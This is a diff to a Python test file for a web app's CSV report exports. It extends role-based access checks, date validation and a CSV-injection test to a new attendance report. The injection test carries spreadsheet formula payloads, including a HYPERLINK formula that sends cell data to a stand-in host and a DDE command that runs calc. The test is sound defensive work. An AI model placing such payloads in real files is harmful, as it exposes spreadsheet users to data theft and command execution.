@@ -63,7 +63,8 @@ def test_the_funnel_csv_counts_per_estate_and_month(client, demo_manager):
         assert all(c == "<5" or c.isdigit() for c in r[2:]), r
     outcomes = rows(client.get("/reports/outcomes.csv"))
     assert outcomes[0][:3] == ["estate", "month", "outcome"]
-    assert {r[2] for r in outcomes[1:]} <= {"Training started", "Job started", "Progression", "Closed"}
+    assert {r[2] for r in outcomes[1:]} <= {"Training started", "Job started", "Progression", "Closed",
+                                            "Qualification gained"}
 
 
 def test_the_participant_list_is_personal_data_for_managers_and_is_audited(db, client, demo_manager):
@@ -81,7 +82,7 @@ def test_the_participant_list_is_personal_data_for_managers_and_is_audited(db, c
 def test_workers_and_leads_cannot_download_reports(client, world, login_as):
     for role in ("worker", "lead"):
         login_as(role)
-        for url in ("/reports/", "/reports/funnel.csv", "/reports/outcomes.csv"):
+        for url in ("/reports/", "/reports/funnel.csv", "/reports/outcomes.csv", "/reports/attendance.csv"):
             assert client.get(url).status_code == 403, (role, url)
         assert client.post("/reports/participants.csv", data={"csrf_token": client.csrf}).status_code == 403
     login_as("manager")
@@ -105,7 +106,8 @@ def test_the_participant_list_holds_no_contact_details_and_names_whom_to_ask(app
 
 # What a spreadsheet runs as a formula when a cell starts with it (OWASP, CSV injection).
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-CSV_EXPORTS = {"reports.funnel_csv": "GET", "reports.outcomes_csv": "GET", "reports.participants_csv": "POST"}
+CSV_EXPORTS = {"reports.funnel_csv": "GET", "reports.outcomes_csv": "GET", "reports.attendance_csv": "GET",
+               "reports.participants_csv": "POST"}
 
 
 def test_every_csv_export_is_known_to_the_formula_test(app):
@@ -117,7 +119,7 @@ def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, log
     from tests.test_participants import signed_up
     payloads = {"estate": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "first": "+SUM(1+1)",
                 "last": "@cmd|' /C calc'!A0", "address": "\t=1+2", "postcode": "\r-3+4", "phone": "+447700900123",
-                "caseworker": "-2+3 Worker"}
+                "caseworker": "-2+3 Worker", "venue": "@SUM(1+1) Library"}
     world["estate"].name = payloads["estate"]
     world["door"].address_line1, world["door"].postcode = payloads["address"], payloads["postcode"]
     db.session.commit()
@@ -129,6 +131,9 @@ def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, log
         "csrf_token": client.csrf, "stage": "job_started", "occurred_on": today.date().isoformat(),
         "hours_per_week": "16", "evidence": "payslip"}).status_code == 303
     world["worker"].name = payloads["caseworker"]  # who signed them up is their caseworker, named in the list
+    venue = factories.venue(world["team"], payloads["venue"])
+    factories.attendance(factories.group_session(venue, today.date()), db.session.get(Participant, pid),
+                         world["worker"])
     db.session.commit()
     login_as("manager")
     for endpoint, method in CSV_EXPORTS.items():
@@ -136,7 +141,8 @@ def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, log
         response = (client.get(url) if method == "GET" else client.post(url, data={"csrf_token": client.csrf}))
         assert response.status_code == 200 and response.mimetype == "text/csv", endpoint
         cells = [cell for row in rows(response) for cell in row]
-        assert "'" + payloads["estate"] in cells, f"{endpoint}: the estate's name is there, made harmless"
+        named = "venue" if endpoint == "reports.attendance_csv" else "estate"
+        assert "'" + payloads[named] in cells, f"{endpoint}: the {named}'s name is there, made harmless"
         for cell in cells:
             assert not cell.startswith(FORMULA_STARTS), (endpoint, cell)
     personal = client.post("/reports/participants.csv", data={"csrf_token": client.csrf})
@@ -156,7 +162,7 @@ OUT_OF_TIME = "Give a date from 2000 to 2099"
                                             ({"from": "9999-12-01", "to": "9999-12-31"}, OUT_OF_TIME)])
 def test_a_period_too_long_or_out_of_time_is_refused_with_a_clear_message(client, world, login_as, query, message):
     login_as("manager")
-    for url in ("/reports/", "/reports/funnel.csv", "/reports/outcomes.csv", "/funnel"):
+    for url in ("/reports/", "/reports/funnel.csv", "/reports/outcomes.csv", "/reports/attendance.csv", "/funnel"):
         response = client.get(url, query_string=query)
         assert response.status_code == 422, (url, query)
         assert message in response.get_data(as_text=True), url
